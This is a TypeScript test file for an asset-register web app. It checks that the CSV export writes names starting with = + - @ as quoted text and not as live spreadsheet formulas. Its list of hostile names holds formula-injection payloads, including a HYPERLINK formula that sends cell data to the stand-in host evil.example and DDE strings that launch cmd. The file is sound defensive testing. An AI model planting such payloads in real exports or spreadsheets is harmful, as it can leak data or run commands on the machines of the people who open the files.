/**
 * Formula injection through CSV exports (issue 17): asset names and places that start with = + - @ reach the
 * asset register's CSV export as text, never as a formula Excel would run.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { readCsv } from '../../src/reference/spreadsheet.ts';
import { buildApp } from '../../src/server/app.ts';
import { createTestUser, signedIn } from '../../src/server/auth/testing.ts';
import { forEachEngine } from '../../src/store/testing.ts';
import { CODE_A, departmentBody, ID_A, POLICY, REGION } from './support.ts';

forEachEngine('csv export', (ctx) => {
  let app: Awaited<ReturnType<typeof buildApp>>;
  beforeAll(async () => {
    app = await buildApp({ store: ctx.opened, version: 'test', loginPolicy: POLICY });
    await createTestUser(ctx.db, { username: 'csv-officer', role: 'officer', regionCode: REGION, departmentCode: CODE_A });
  });
  afterAll(async () => {
    await app?.close();
  });

  it('the asset CSV export writes every formula-like cell as text', async () => {
    const officer = await signedIn(app, 'csv-officer');
    await officer.inject({ method: 'POST', url: '/api/department-years', payload: departmentBody(CODE_A) });
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|x', '-2+3+cmd|x'];
    for (const [i, name] of hostile.entries()) {
      const r = await officer.inject({
        method: 'POST',
        url: `/api/departments/${ID_A}/assets`,
        payload: { assetNumber: `CSV-${i}`, name, classCode: 'A02021301', originalValue: 50000, acquiredOn: '2026-11-20', location: i === 0 ? '=1+1' : '办公室' },
      });
      expect(r.statusCode, r.body).toBe(201);
    }
    const csv = await officer.inject({ method: 'GET', url: `/api/departments/${ID_A}/assets/export?format=csv` });
    expect(csv.statusCode).toBe(200);
    const cells = readCsv(csv.body.replace(/^\uFEFF/, '')).flat();
    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
    expect(formulas, 'no cell of the export starts a formula').toEqual([]);
    for (const name of hostile) expect(cells, `${name} is kept, as text`).toContain(`'${name}`);
  });
});
